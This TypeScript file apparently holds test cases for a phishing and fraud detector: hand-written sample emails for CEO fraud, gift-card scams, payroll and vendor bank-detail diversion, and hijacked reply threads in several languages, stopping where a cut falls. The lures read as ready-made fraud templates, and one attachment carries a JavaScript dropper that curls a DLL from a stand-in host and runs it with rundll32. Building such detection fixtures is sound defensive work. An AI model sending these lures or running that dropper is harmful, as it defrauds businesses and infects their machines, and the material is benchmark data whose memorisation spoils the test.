// Business email compromise and payment diversion: CEO requests, gift cards, changed
// bank details, hijacked reply threads (lures bec, reply-thread).
// Every message is hand-written for this suite from what lands in inboxes and what APWG, CERTs
// and vendors report (none comes from a corpus). Cases marked `heldOut` come from the blind
// batches and the lures written beside their rules: the model never trains on them
// (scripts/export-case-mail.ts), so `npm run bench:cases` reads them as unseen mail.

import { zip } from './formats-builders.ts';
import { attachment, document, GMAIL, gmailBody, mail, multipart, OUTLOOK, plain, THROWAWAY, withoutTrace } from './mail-builder.ts';
import type { PhishingCase } from './mail-case.ts';

export const BEC_AND_THREAD_HIJACK_CASES: readonly PhishingCase[] = [
  {
    name: "Payroll direct-deposit change from an employee's name on a free mailbox",
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Kevin Brandt <kevin.brandt.work@outlook.com>',
      to: 'Payroll <payroll@ashgroveengineering.com>',
      subject: 'Direct Deposit Update',
      date: 'Tue, 11 Mar 2025 10:16:29 +0000',
      messageId: 'PH0PR11MB5621C7A1E0B9D44F3A28E17FC9B52@PH0PR11MB5621.namprd11.prod.outlook.com',
      dkim: ['outlook.com:selector1'],
      relay: 'NAM04-BN8-obe.outbound.protection.outlook.com [40.92.45.12]',
      body: plain(
        [
          'Hi,',
          '',
          'I recently changed banks and I would like to update my direct deposit information before the next pay date. Can you please confirm what details you need from me, or can I send the new account and routing number here?',
          '',
          'I would like the change to take effect for this payroll if possible.',
          '',
          'Thanks,',
          'Kevin Brandt',
          '',
          'Sent from my iPhone',
        ].join('\n'),
      ),
    }),
  },

  {
    name: 'Gift-card request from the "CEO" on Gmail',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Richard Halvorsen <richard.halvorsen.ceo@gmail.com>',
      to: 'Amanda Pike <apike@northgate-insurance.com>',
      replyTo: 'Richard Halvorsen <rhalvorsen.office@gmail.com>',
      subject: 'Quick task',
      date: 'Fri, 8 Nov 2024 09:47:12 -0600',
      messageId: 'CAF9k2Lq7pZ4wN1mR8vT3yB6cH0dJ5sG2eX9aU7iOq4=Tm@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f52.google.com [209.85.220.52]',
      body: gmailBody(
        [
          'Amanda,',
          '',
          "I need you to get a few Apple gift cards for some clients today, it's a surprise so keep it between us for now. I'm in a meeting and can't take calls.",
          '',
          'Get 5 cards of $200 each. Once you have them, scratch the back and send me pictures of the codes by email. I will reimburse you by end of day.',
          '',
          'Let me know how soon you can get this done.',
          '',
          'Richard',
          'Sent from my iPhone',
        ].join('\n'),
      ),
    }),
  },

  {
    name: 'Vendor bank-detail change from a look-alike domain in a real-looking thread',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Sarah Kowalski <s.kowalski@bramwell-industrials.com>',
      to: 'Accounts Payable <ap@fenwickfoods.co.uk>',
      cc: 'Tom Ashdown <t.ashdown@fenwickfoods.co.uk>',
      subject: 'RE: Outstanding invoices - Bramwell Industrial Supplies',
      date: 'Mon, 19 May 2025 14:22:08 +0100',
      messageId: 'LO2P265MB4411B9E7A2C3F80D1E5A4C7B2E931@LO2P265MB4411.GBRP265.PROD.OUTLOOK.COM',
      dkim: ['bramwell-industrials.com:selector1'],
      relay: 'GBR01-LO2-obe.outbound.protection.outlook.com [40.107.20.91]',
      headers: [
        'In-Reply-To: <LO4P265MB6120C1D2E3F4A5B6C7D8E9F0A1B2C@LO4P265MB6120.GBRP265.PROD.OUTLOOK.COM>',
        'References: <LO4P265MB6120C1D2E3F4A5B6C7D8E9F0A1B2C@LO4P265MB6120.GBRP265.PROD.OUTLOOK.COM>',
        'Thread-Topic: Outstanding invoices - Bramwell Industrial Supplies',
      ],
      body: plain(
        [
          'Hi,',
          '',
          'Thank you for your reply. Please note that due to our ongoing annual audit, our usual account with Barclays is currently unable to receive payments. All outstanding and future invoices should be settled to our new account below:',
          '',
          'Account name: Bramwell Industrial Supplies Ltd',
          'Bank: Starling Bank',
          'Sort code: 60-83-71',
          'Account number: 41926735',
          '',
          'Kindly confirm once the details have been updated on your system and advise the payment date for the three outstanding invoices (£47,318.60 in total). An updated letter on company letterhead will follow.',
          '',
          'Kind regards,',
          'Sarah Kowalski',
          'Credit Control | Bramwell Industrial Supplies Ltd',
          '',
          '-----Original Message-----',
          'From: Accounts Payable <ap@fenwickfoods.co.uk>',
          'Sent: 16 May 2025 11:03',
          'Subject: RE: Outstanding invoices - Bramwell Industrial Supplies',
          '',
          'Hi Sarah, thanks for the statement, payment run is scheduled for Wednesday.',
          '',
          '-----Original Message-----',
          'From: Sarah Kowalski <s.kowalski@bramwell-industrial.co.uk>',
          'Sent: 15 May 2025 16:40',
          'Subject: Outstanding invoices - Bramwell Industrial Supplies',
          '',
          'Good afternoon, please find attached our statement showing invoices BIS-10482, BIS-10517 and BIS-10533 as outstanding. Could you let me know when these are scheduled for payment?',
        ].join('\n'),
      ),
    }),
  },

  {
    name: 'Compromised vendor mailbox replies in a real thread with a "view documents" link',
    lang: 'en',
    lure: 'reply-thread',
    expect: ['phishing'],
    raw: mail({
      from: 'Colin Fairweather <colin@fairweather-joinery.co.uk>',
      to: 'Helen Marsh <helen@marshbuilding.co.uk>',
      subject: 'RE: Invoice 2291 - Kitchen units Elm Road',
      date: 'Wed, 2 Oct 2024 16:44:27 +0100',
      messageId: 'LO6P123MB7289E3A1C4B5D6F7081A2B3C4D5E6@LO6P123MB7289.GBRP123.PROD.OUTLOOK.COM',
      dkim: ['fairweather-joinery.co.uk:selector1'],
      relay: 'GBR01-CWX-obe.outbound.protection.outlook.com [40.107.121.80]',
      headers: [
        'In-Reply-To: <DB9P195MB1420A2B3C4D5E6F70819A2B3C4D5E@DB9P195MB1420.EURP195.PROD.OUTLOOK.COM>',
        'References: <DB9P195MB1420A2B3C4D5E6F70819A2B3C4D5E@DB9P195MB1420.EURP195.PROD.OUTLOOK.COM>',
      ],
      body: document([
        'Hi Helen,',
        'Following up on the invoice below, please find the updated documents and statement here:',
        { button: 'View Documents (3)', href: 'https://fairweatherjoinery-my.sharepoint-docs.workers.dev/:b:/g/personal/colin/EaX7kQ2mN9p?e=4Tz1Lm' },
        'Let me know if you have any questions.',
        'Kind regards,',
        'Colin Fairweather',
        'Fairweather Joinery Ltd',
        {
          small:
            'From: Helen Marsh <helen@marshbuilding.co.uk> Sent: 27 September 2024 09:12 To: Colin Fairweather Subject: RE: Invoice 2291 - Kitchen units Elm Road — Thanks Colin, can you resend the invoice with the delivery date on it? Helen',
        },
      ]),
    }),
  },

  {
    name: 'Fraude del CEO: transferencia urgente y confidencial desde Gmail',
    lang: 'es',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Fernando Castellanos <fcastellanos.direccion@gmail.com>',
      to: 'Lucía Moreno <lmoreno@distribucionesvalmar.es>',
      subject: 'Operación confidencial',
      date: 'Wed, 11 Sep 2024 10:08:55 +0200',
      messageId: 'CAN3fR7kQ2wL9pZ1mV4tY8bH6cJ0dS5gE2xA7uK9iOq=Wr@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f65.google.com [209.85.220.65]',
      body: gmailBody(
        [
          'Lucía, buenos días.',
          '',
          'Estamos cerrando la adquisición de una empresa en Portugal y necesito que gestiones hoy mismo una transferencia. Es una operación confidencial hasta que se haga pública, así que te pido máxima discreción: no comentes nada con nadie de la oficina, ni siquiera con contabilidad.',
          '',
          'El abogado del despacho te enviará los datos bancarios. El importe es de 48.500 €. ¿Puedes ocuparte ahora? Estoy reunido y no puedo atender llamadas, contéstame por aquí.',
          '',
          'Gracias,',
          'Fernando Castellanos',
          'Director General',
        ].join('\n'),
      ),
    }),
  },

  {
    name: 'Lieferant meldet geänderte Bankverbindung, Absender ähnliche Domain',
    lang: 'de',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Katrin Vogel <k.vogel@brandt-verpackungen.de.com>',
      to: 'Buchhaltung <buchhaltung@schaefer-lebensmittel.de>',
      subject: 'AW: Offene Posten / neue Bankverbindung',
      date: 'Thu, 27 Mar 2025 11:42:18 +0100',
      messageId: 'FR3P281MB2093C1D2E3F4A5B6C7D8E9F0A1B2C@FR3P281MB2093.DEUP281.PROD.OUTLOOK.COM',
      dkim: ['brandt-verpackungen.de.com:selector1'],
      relay: 'DEU01-FR2-obe.outbound.protection.outlook.com [40.107.135.41]',
      headers: ['In-Reply-To: <FR2P281MB1120A0B1C2D3E4F5A6B7C8D9E0F1A@FR2P281MB1120.DEUP281.PROD.OUTLOOK.COM>'],
      body: plain(
        [
          'Guten Tag,',
          '',
          'wie telefonisch angekündigt, teilen wir Ihnen mit, dass sich unsere Bankverbindung geändert hat. Bitte überweisen Sie die offenen Rechnungen (RE-2025-0417 und RE-2025-0452, gesamt 28.614,50 €) ab sofort ausschließlich auf das folgende Konto:',
          '',
          'Kontoinhaber: Brandt Verpackungen GmbH',
          'IBAN: LT03 3250 0247 1938 6604',
          'BIC: REVOLT21',
          '',
          'Die alte Bankverbindung ist ab sofort nicht mehr gültig. Bitte bestätigen Sie uns kurz die Änderung in Ihrem System.',
          '',
          'Mit freundlichen Grüßen',
          'Katrin Vogel',
          'Buchhaltung | Brandt Verpackungen GmbH',
          '',
          '-----Ursprüngliche Nachricht-----',
          'Von: Buchhaltung <buchhaltung@schaefer-lebensmittel.de>',
          'Gesendet: Mittwoch, 26. März 2025 09:14',
          'An: Katrin Vogel <k.vogel@brandt-verpackungen.de>',
          'Betreff: AW: Offene Posten',
          '',
          'Hallo Frau Vogel, die beiden Rechnungen sind für den nächsten Zahllauf am Freitag vorgesehen. Viele Grüße, Buchhaltung Schäfer',
        ].join('\n'),
      ),
    }),
  },

  {
    name: 'Leverancier meldt nieuw IBAN in een "RE:"-draad, look-alike domein',
    lang: 'nl',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Mark Visser <m.visser@vanderlinden-logistlek.nl>',
      to: 'Crediteurenadministratie <crediteuren@bosman-bouwmaterialen.nl>',
      subject: 'RE: Factuur 2025-1184 / gewijzigde bankgegevens',
      date: 'Mon, 14 Apr 2025 15:03:11 +0200',
      messageId: 'AM8P190MB0948E1F2A3B4C5D6E7F8A9B0C1D2E@AM8P190MB0948.EURP190.PROD.OUTLOOK.COM',
      dkim: ['vanderlinden-logistlek.nl:selector1'],
      relay: 'EUR02-VI1-obe.outbound.protection.outlook.com [40.107.21.64]',
      headers: ['In-Reply-To: <AM0P190MB0611A1B2C3D4E5F6A7B8C9D0E1F2A@AM0P190MB0611.EURP190.PROD.OUTLOOK.COM>'],
      body: plain(
        [
          'Goedemiddag,',
          '',
          'Zoals besproken hebben wij door een bankwissel een nieuw rekeningnummer. Wilt u de openstaande facturen 2025-1184 en 2025-1203 (totaal € 16.942,80) overmaken naar onderstaande rekening en dit ook in uw systeem aanpassen?',
          '',
          'IBAN: NL59 BUNQ 2091 8473 62',
          't.n.v. Van der Linden Logistiek B.V.',
          '',
          'De betaling graag nog deze week, in verband met de jaarafsluiting. Wilt u bevestigen wanneer het is aangepast?',
          '',
          'Met vriendelijke groet,',
          'Mark Visser',
          'Financiële administratie | Van der Linden Logistiek B.V.',
          '',
          'Van: Crediteurenadministratie <crediteuren@bosman-bouwmaterialen.nl>',
          'Verzonden: vrijdag 11 april 2025 10:22',
          'Aan: Mark Visser <m.visser@vanderlinden-logistiek.nl>',
          'Onderwerp: RE: Factuur 2025-1184',
          '',
          'Beste Mark, factuur 2025-1184 staat ingepland voor de betaalrun van volgende week. Groet, Crediteurenadministratie Bosman',
        ].join('\n'),
      ),
    }),
  },

  // Boss fraud in the other languages: a transfer in secret, or from a boss who cannot take calls.
  {
    name: 'CEO wire request from a personal Gmail: "in board meetings all day, can\'t take calls, keep this between us"',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Richard Hale <richard.hale.exec@gmail.com>',
      to: 'Megan Ford <mford@ashworthlogistics.co.uk>',
      subject: 'Quick task',
      date: 'Tue, 4 Mar 2025 08:52:10 +0000',
      messageId: '<CAF7pR2kQ9wL4zN1mV8tY3bH5cJ6dS0gE7xA2uK4iOq=Lm@mail.gmail.com>',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f41.google.com [209.85.220.41]',
      body: gmailBody(
        [
          'Megan,',
          '',
          "Are you at your desk? I need a wire of £36,800 processed to a new supplier this morning, it has to go out before 11am. I'm in board meetings all day and can't take calls, so reply here and I will send you the account details.",
          'Please keep this between us for now, it is part of an acquisition we will announce next week.',
          '',
          'Richard Hale',
          'Sent from my iPhone',
        ].join('\n'),
      ),
    }),
  },

  {
    name: 'Fraude do CEO: Pix urgente e sigiloso pedido de um Gmail com o nome do diretor',
    lang: 'pt-BR',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Marcelo Andrade <marcelo.andrade.diretoria@gmail.com>',
      to: 'Patrícia Lima <patricia.lima@grupoaltavista.com.br>',
      subject: 'Pagamento hoje',
      date: 'Thu, 13 Feb 2025 10:17:42 -0300',
      messageId: '<CAH4kR8pQ1wN7zL3mV9tY2bJ6cD5gS0eE8xA4uK1iOp=Tx@mail.gmail.com>',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f69.google.com [209.85.220.69]',
      body: gmailBody(
        [
          'Patrícia, bom dia.',
          '',
          'Preciso que você faça hoje, com urgência, um Pix de R$ 47.900,00 para um fornecedor novo; os dados vão no próximo e-mail. Estou em reunião com o conselho e não posso atender ligações.',
          'Não comente com ninguém, nem com o financeiro, até eu liberar o comunicado.',
          '',
          'Marcelo Andrade',
          'Diretor Presidente',
        ].join('\n'),
      ),
    }),
  },

  {
    name: 'Chef-Betrug: dringende Auslandsüberweisung, „bitte mit niemandem besprechen“, von einer Freemail-Adresse',
    lang: 'de',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Dr. Thomas Keller <dr.thomas.keller@gmx.net>',
      to: 'Andrea Vogt <a.vogt@keller-maschinenbau.de>',
      subject: 'Vertraulich',
      date: 'Mon, 17 Mar 2025 09:05:27 +0100',
      messageId: '<trinity-1f4a8c2e-7b3d-4e9a-b6c0-2d5e8f1a4c73-1742198727301@3c-app-gmx-bs21>',
      dkim: ['gmx.net:s1'],
      relay: 'mout.gmx.net [212.227.15.19]',
      body: plain(
        [
          'Frau Vogt,',
          '',
          'wir übernehmen ein Unternehmen in Italien. Ich brauche heute noch eine Überweisung von 64.500 €, es ist dringend. Die Bankdaten schickt Ihnen unser Anwalt.',
          'Bitte besprechen Sie das mit niemandem, auch nicht mit der Buchhaltung, bis die Übernahme bekannt gegeben ist.',
          '',
          'Thomas Keller',
        ].join('\n'),
      ),
    }),
  },

  {
    // Reply-chain hijack (Qakbot/Pikabot lineage): a stolen thread answered from the real,
    // compromised mailbox with one line and a link to a ZIP on a hacked WordPress site.
    name: 'Stolen thread "RE: fixed asset schedule" answered with one line and a link to a ZIP on a hacked WordPress site',
    lang: 'en',
    lure: 'reply-thread',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Carl Jennings <cjennings@tristatepallet.com>',
      to: 'Amy Rhodes <arhodes@northfieldcpa.com>',
      subject: 'RE: fixed asset schedule 2024',
      date: 'Thu, 27 Feb 2025 10:03:37 -0500',
      messageId: '000f01db8925$4c2e7a10$e48b6e30$@tristatepallet.com',
      dkim: ['tristatepallet.com:default'],
      relay: 'cpanel14.hostwinds-ns.net [192.0.2.88]',
      headers: [
        'In-Reply-To: <BN0PR04MB8031D2A7C4E9F1B36A5C8E0D2F7B4@BN0PR04MB8031.namprd04.prod.outlook.com>',
        'References: <BN0PR04MB8031D2A7C4E9F1B36A5C8E0D2F7B4@BN0PR04MB8031.namprd04.prod.outlook.com>',
        'X-Mailer: Microsoft Outlook 16.0',
      ],
      body: plain(
        'Hello,\n\nPlease review the updated file here: https://oakridgebakery-mn.com/wp-content/uploads/2025/02/FA_Schedule_2024.zip\n\nThank you\n\n-----Original Message-----\nFrom: Amy Rhodes <arhodes@northfieldcpa.com>\nSent: Tuesday, January 14, 2025 2:18 PM\nTo: Carl Jennings <cjennings@tristatepallet.com>\nSubject: RE: fixed asset schedule 2024\n\nHi Carl,\n\nThanks for sending the depreciation detail. Could you also send the additions for the new forklift and the roof repair so we can finish the 4562?\n\nAmy Rhodes, CPA\nNorthfield CPA Group',
      ),
    }),
  },

  {
    // Payroll diversion: an employee's name on a free mailbox asks HR to pay this month's salary
    // into a new account (a neobank opened by a mule).
    name: 'Desvío de nómina: una "empleada" escribe a RR. HH. desde Gmail para cambiar la cuenta antes del cierre',
    lang: 'es',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Marta Soler Vidal <martasoler.vidal@gmail.com>',
      to: 'Recursos Humanos <rrhh@grupovallsindustrial.com>',
      subject: 'Cambio de cuenta para la nómina',
      date: 'Thu, 20 Nov 2025 09:58:02 +0100',
      messageId: 'CAE5k9Pq2Lm7Xw4Rt1Zn8Vb3Hc6Jd0Fs@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-wm1-f45.google.com [209.85.128.45]',
      body: gmailBody(
        'Hola,\n\nHe cambiado de banco y quería pediros que la nómina de noviembre me la ingreséis ya en la cuenta nueva, que la antigua la cierran esta semana:\n\nTitular: Marta Soler Vidal\nIBAN: ES76 1583 0001 1290 4471 2285\n\n¿Me confirmáis que llegáis a cambiarlo antes del cierre de nóminas? Os escribo desde el correo personal porque estoy en el móvil y no me deja entrar al corporativo.\n\nGracias,\nMarta',
      ),
    }),
  },

  {
    // A customer's thread hijacked from the compromised supplier's own mailbox: the reply
    // keeps the quoted history and links the "order" to a OneDrive look-alike.
    name: 'Hilo "RE: Pedido 4471" secuestrado en el buzón comprometido del proveedor, enlace a un OneDrive falso',
    lang: 'es',
    lure: 'reply-thread',
    expect: ['phishing'],
    raw: mail({
      from: 'Raúl Campos <rcampos@suministroslevante.es>',
      to: 'Compras <compras@talleresbernal.com>',
      subject: 'RE: Pedido 4471 - tornillería M8',
      date: 'Tue, 8 Apr 2025 13:19:45 +0200',
      messageId: 'PR3P195MB0712A9E4C1B7F3D26E8A0C5F1B9D2@PR3P195MB0712.EURP195.PROD.OUTLOOK.COM',
      dkim: ['suministroslevante.es:selector1'],
      relay: 'mail-db5eur02on2090.outbound.protection.outlook.com [40.107.249.90]',
      headers: [
        'In-Reply-To: <AM9PR01MB7214C3E1A8F5B2D04A6E9C7F1B3D8@AM9PR01MB7214.eurprd01.prod.outlook.com>',
        'References: <AM9PR01MB7214C3E1A8F5B2D04A6E9C7F1B3D8@AM9PR01MB7214.eurprd01.prod.outlook.com>',
      ],
      body: plain(
        'Buenas tardes,\n\nOs dejo la confirmación del pedido y la factura proforma actualizada en el siguiente enlace. Tenéis que iniciar sesión con vuestra cuenta de correo para verlo:\n\nhttps://onedrive-docs-compartidos.sbs/s/Pedido_4471_proforma\n\nUn saludo,\nRaúl Campos\nSuministros Levante\n\nDe: Compras <compras@talleresbernal.com>\nEnviado: lunes, 7 de abril de 2025 11:02\nPara: Raúl Campos <rcampos@suministroslevante.es>\nAsunto: Pedido 4471 - tornillería M8\n\nHola Raúl, ¿nos confirmas plazo de entrega para las 20 cajas de M8x40 y el precio actualizado? Gracias.',
      ),
    }),
  },

  {
    // Reply-thread from a compromised client mailbox: "segue a planilha" linking to a fake
    // Excel Online page that asks for the Microsoft password.
    name: 'Thread sequestrado "RE: orçamento reforma" com "segue a planilha atualizada" num Excel Online falso',
    lang: 'pt-BR',
    lure: 'reply-thread',
    expect: ['phishing'],
    raw: mail({
      from: 'Renata Guimarães <renata@guimaraesarquitetura.com.br>',
      to: 'Obras <obras@construtoraparana.com.br>',
      subject: 'RE: orçamento reforma sala comercial',
      date: 'Wed, 5 Feb 2025 15:22:08 -0300',
      messageId: 'CPVP152MB4471A2E9C1F7B3D05A8C4E6F2D0B9@CPVP152MB4471.LAMP152.PROD.OUTLOOK.COM',
      dkim: ['guimaraesarquitetura.com.br:selector1'],
      relay: 'mail-cp2bra01on2102.outbound.protection.outlook.com [40.107.246.102]',
      headers: ['In-Reply-To: <a7c2e9f1b4d8@construtoraparana.com.br>', 'References: <a7c2e9f1b4d8@construtoraparana.com.br>'],
      body: plain(
        'Boa tarde,\n\nSegue a planilha atualizada com os valores revisados. Para abrir é só entrar com o seu e-mail e senha:\n\nhttps://excel-online-planilhas.cfd/view/orcamento_reforma_rev3.xlsx\n\nAbs,\nRenata\n\nEm ter., 4 de fev. de 2025 às 10:41, Obras <obras@construtoraparana.com.br> escreveu:\n> Renata, pode mandar a planilha com o orçamento revisado da sala 804? Precisamos aprovar até sexta.',
      ),
    }),
  },

  {
    // CEO fraud in European Portuguese: the "administrador" on a look-alike of the company's
    // domain asks for a confidential transfer and for the reader's discretion.
    name: 'Fraude do CEO: o "administrador" num domínio parecido pede uma transferência confidencial de 48.500 €',
    lang: 'pt-PT',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Luís Pacheco <luis.pacheco@metalurgica-avelar.pt.com>',
      to: 'Cláudia Reis <claudia.reis@metalurgica-avelar.pt>',
      subject: 'Assunto confidencial',
      date: 'Wed, 19 Mar 2025 11:52:09 +0000',
      messageId: '1742385129.8a2c@metalurgica-avelar.pt.com',
      relay: 'mail.metalurgica-avelar.pt.com [192.0.2.199]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: plain(
        'Cláudia, bom dia.\n\nEstou numa reunião com os advogados a fechar a aquisição de uma empresa em Espanha e preciso da sua ajuda com discrição total: o assunto ainda não pode ser comunicado ao resto da equipa.\n\nPreciso que faça hoje uma transferência de 48.500,00 € como sinal. Envio-lhe já o IBAN e a referência. Consegue tratar antes das 15h?\n\nResponda só para este e-mail, não me ligue porque estou em reunião.\n\nObrigado,\nLuís Pacheco\nAdministrador\n\nEnviado do meu iPhone',
      ),
    }),
  },

  {
    // Fake-president fraud in German: the "CEO" announces a confidential acquisition and a
    // lawyer who will call; the reader must keep quiet and pay.
    name: 'CEO-Betrug: "Geschäftsführer" kündigt vertrauliche Übernahme an, Anwalt meldet sich, Überweisung heute',
    lang: 'de',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Dr. Martin Steiner <m.steiner.gf@mail.de>',
      to: 'Petra Vogel <p.vogel@steiner-feinmechanik.de>',
      subject: 'Vertraulich – Projekt Adler',
      date: 'Mon, 1 Sep 2025 10:03:28 +0200',
      messageId: 'trinity-4e8a2c71-9b3d-4f6e-a1c5-2d0b9e7f4a36-1756713808123@3c-app-mailcom-bs14',
      dkim: ['mail.de:mail-2025'],
      relay: 'shout02.mail.de [62.201.172.57]',
      body: plain(
        'Frau Vogel,\n\nich benötige heute Ihre Unterstützung in einer streng vertraulichen Angelegenheit. Wir stehen kurz vor der Übernahme eines Wettbewerbers in der Schweiz (Projekt Adler). Die Finanzaufsicht verlangt bis zur offiziellen Bekanntgabe absolute Verschwiegenheit, auch gegenüber Kollegen.\n\nRechtsanwalt Dr. Keller von der Kanzlei Bär & Partner wird Sie in Kürze anrufen und Ihnen die Kontodaten für die Anzahlung von 186.000 € durchgeben. Bitte führen Sie die Überweisung heute noch aus.\n\nIch bin den ganzen Tag in Verhandlungen und nur per E-Mail erreichbar. Bitte antworten Sie nur an diese Adresse.\n\nMit freundlichen Grüßen\nDr. Martin Steiner\nGeschäftsführer',
      ),
    }),
  },

  {
    // Business e-mail compromise through a genuine platform: a hijacked supplier's real Xero
    // account sends its invoice, and the invoice note moves payment to a new bank account.
    name: 'Real Xero invoice from a hijacked supplier whose note says "our bank has changed, pay the new account only"',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Harlow Timber Supplies <messaging-service@post.xero.com>',
      to: 'accounts@pennantjoinery.co.uk',
      replyTo: 'harlowtimber.accounts@outlook.com',
      subject: 'Invoice INV-4471 from Harlow Timber Supplies for Pennant Joinery',
      date: 'Thu, 11 Sep 2025 09:47:12 +0000',
      messageId: '0102019935f2a1c7-8e4b2d19-7a6c-4f3e-b1d5-9c8e7f6a5b4d-000000@eu-west-1.amazonses.com',
      dkim: ['post.xero.com:xero1', 'amazonses.com:uku4taia5b5tsbglxyj6zym32efj7xqv'],
      returnPath: '0102019935f2a1c7-8e4b2d19-7a6c-4f3e-b1d5-9c8e7f6a5b4d-000000@eu-west-1.amazonses.com',
      relay: 'a7-14.smtp-out.eu-west-1.amazonses.com [54.240.7.14]',
      body: document([
        'Hi Accounts,',
        "Here's invoice INV-4471 for GBP 18,640.00. The amount outstanding is due on 18 Sep 2025.",
        'IMPORTANT: following our annual audit our bank details have changed. Please pay to our new account only (Harlow Timber Supplies Ltd, sort code 04-00-75, account 41887203) and send the remittance to harlowtimber.accounts@outlook.com. Payments to the old account will be returned.',
        { button: 'View invoice', href: 'https://in.xero.com/Lq7R2kP9vT4mN1wX8bC5dF3hJ6sY0gZaQe' },
        'Thanks,\nHarlow Timber Supplies',
      ]),
    }),
  },

  {
    // Thread hijack with a password-protected ZIP (the password in the body so gateways cannot
    // open it), the classic Qakbot/Pikabot shape.
    name: 'Gekaperter Verlauf „AW: Rechnung 2025-117“ mit passwortgeschütztem ZIP, Passwort im Text',
    lang: 'de',
    lure: 'reply-thread',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Sandra Keller <s.keller@metallbau-keller.de>',
      to: 'Jens Albrecht <j.albrecht@schlosserei-albrecht.de>',
      subject: 'AW: Rechnung 2025-117',
      date: 'Thu, 13 Nov 2025 07:58:06 +0100',
      messageId: '5d3a1c7e9f2b4e6a@metallbau-keller.de',
      dkim: ['metallbau-keller.de:default'],
      relay: 'mail.metallbau-keller.de [198.51.100.31]',
      headers: ['In-Reply-To: <a7c1e9f3b2d4@schlosserei-albrecht.de>', 'References: <a7c1e9f3b2d4@schlosserei-albrecht.de>'],
      body: multipart('mixed', [
        plain(
          'Hallo Jens,\n\nanbei die Unterlagen wie besprochen. Passwort: 2025\n\nGruß Sandra\n\n-----Ursprüngliche Nachricht-----\nVon: Jens Albrecht\nGesendet: Montag, 10. November 2025 14:02\nBetreff: Rechnung 2025-117\n\nHallo Sandra, kannst du mir die Rechnung nochmal schicken? Danke, Jens',
        ),
        attachment(
          'Unterlagen_2025-117.zip',
          'application/zip',
          zip({
            'Unterlagen_2025-117.js':
              'var s=WScript.CreateObject("WScript.Shell");s.Run("curl -s https://cdn-upd.metallbau-sync.top/u.dat -o %TEMP%\\\\u.dll & rundll32 %TEMP%\\\\u.dll,Init",0);',
          }),
        ),
      ]),
    }),
  },

  {
    // A supplier's hijacked mailbox replies in a real thread with the "revised invoice" link.
    name: 'Reply in a real PO thread from a supplier\'s hijacked mailbox: "revised invoice" on a OneDrive look-alike',
    lang: 'en',
    lure: 'reply-thread',
    expect: ['phishing'],
    raw: mail({
      from: 'Tom Becker <tbecker@northgatesupply.com>',
      to: 'Accounts Payable <ap@harwoodlogistics.com>',
      subject: 'RE: PO 44821 - pallet racking delivery',
      date: 'Tue, 1 Jul 2025 10:26:14 -0500',
      messageId: 'SJ0PR11MB4893C1D2E3F4A5B6C7D8E9F0A1B2C3D4@SJ0PR11MB4893.namprd11.prod.outlook.com',
      dkim: ['northgatesupply.com:selector1', 'northgatesupply.onmicrosoft.com:selector1'],
      relay: 'NAM11-SJ0-obe.outbound.protection.outlook.com [40.107.223.51]',
      headers: [
        'In-Reply-To: <MW4PR17MB5612A9B8C7D6E5F4A3B2C1D0E9F8A7B6@MW4PR17MB5612.namprd17.prod.outlook.com>',
        'References: <MW4PR17MB5612A9B8C7D6E5F4A3B2C1D0E9F8A7B6@MW4PR17MB5612.namprd17.prod.outlook.com>',
        'Thread-Topic: PO 44821 - pallet racking delivery',
      ],
      body: plain(
        'Hi,\n\nSorry for the delay. Please find the revised invoice for PO 44821 with the corrected freight charge here:\n\nhttps://1drv-ms.fileportal-secure.com/x/PO44821-revised\n\nYou will need to sign in with your work email to view it. Let me know once processed.\n\nThanks,\nTom Becker\nNorthgate Supply Co.\n\n-----Original Message-----\nFrom: Accounts Payable <ap@harwoodlogistics.com>\nSent: Monday, June 30, 2025 3:12 PM\nTo: Tom Becker <tbecker@northgatesupply.com>\nSubject: PO 44821 - pallet racking delivery\n\nHi Tom, can you send the final invoice for PO 44821? The freight line looks wrong.\n\nThanks, Accounts Payable',
      ),
    }),
  },

  {
    // BEC: a look-alike of a real supplier's domain announces new bank details.
    name: 'BEC "we have changed banks, update our remittance details" from a supplier look-alike domain',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Rachel Dunn <rachel.dunn@northgate-supply.com>',
      to: 'ap@harwoodlogistics.com',
      subject: 'Updated banking details - Northgate Supply Co.',
      date: 'Mon, 2 Jun 2025 10:14:51 -0500',
      messageId: '9a8b7c6d5e4f4a3b@northgate-supply.com',
      dkim: ['northgate-supply.com:default'],
      relay: 'mail.northgate-supply.com [203.0.113.135]',
      auth: THROWAWAY,
      body: plain(
        'Good morning,\n\nPlease be advised that due to our annual audit we have changed our banking institution. Effective immediately, all outstanding and future payments should be made to our new account below:\n\nBank: First Horizon Bank\nAccount name: Northgate Supply Co\nRouting number: 084000026\nAccount number: 4471 0932 8812\n\nPlease do not send any payment to the old account as it is currently under review. Kindly confirm once you have updated your records and let me know the expected date for the open invoices (INV-20931, INV-20977).\n\nThank you,\nRachel Dunn\nAccounts Receivable\nNorthgate Supply Co.',
      ),
    }),
  },

  {
    // CEO gift-card fraud: display name of the CEO, a Gmail address, "are you available?".
